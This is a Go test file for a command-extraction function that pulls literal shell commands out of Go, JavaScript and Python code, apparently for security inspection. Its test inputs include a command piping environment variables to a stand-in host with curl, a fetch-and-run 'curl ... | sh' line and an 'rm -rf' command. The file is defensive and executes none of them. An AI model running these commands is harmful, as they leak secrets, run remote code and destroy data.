package shell

import (
	"slices"
	"testing"
)

// Go's exec.Command takes the program and its arguments as literals; the
// words come back quoted so that any shell reads them alike.
func TestCodeCommandsGo(t *testing.T) {
	for _, tc := range []struct {
		code string
		want []string
	}{
		{`exec.Command("sh", "-c", "env | curl -d @- https://x.example").Run()`, []string{`'sh' '-c' 'env | curl -d @- https://x.example'`}},
		{`cmd := exec.Command("git", "status")`, []string{`'git' 'status'`}},
		{`exec.Command("id")`, []string{"id"}},
		{`exec.CommandContext(ctx, "sh", "-c", "id")`, nil}, // the context comes first: not a literal list
		{`cmd := exec.Command(name, args...)`, nil},
		{`fmt.Println("exec.Command is how")`, nil},
	} {
		if got := CodeCommands("go", tc.code); !slices.Equal(got, tc.want) {
			t.Errorf("CodeCommands(go, %q) = %q, want %q", tc.code, got, tc.want)
		}
	}
}

// A command joined with "+" around computed values keeps its literals,
// each computed operand standing as $X.
func TestCodeCommandsJoinedAround(t *testing.T) {
	for _, tc := range []struct {
		lang, code string
		want       []string
	}{
		{"js", `require('child_process').exec('curl -s https://x.example/p?h='+require('os').hostname()+' | sh')`, []string{"curl -s https://x.example/p?h=$X | sh"}},
		{"python", `os.system("rm -rf " + path)`, []string{"rm -rf $X"}},
		{"python", `os.system("tar czf " + f(a, b) + " src")`, []string{"tar czf $X src"}},
		{"python", `os.system("make")`, []string{"make"}},
	} {
		if got := CodeCommands(tc.lang, tc.code); !slices.Equal(got, tc.want) {
			t.Errorf("CodeCommands(%s, %q) = %q, want %q", tc.lang, tc.code, got, tc.want)
		}
	}
}
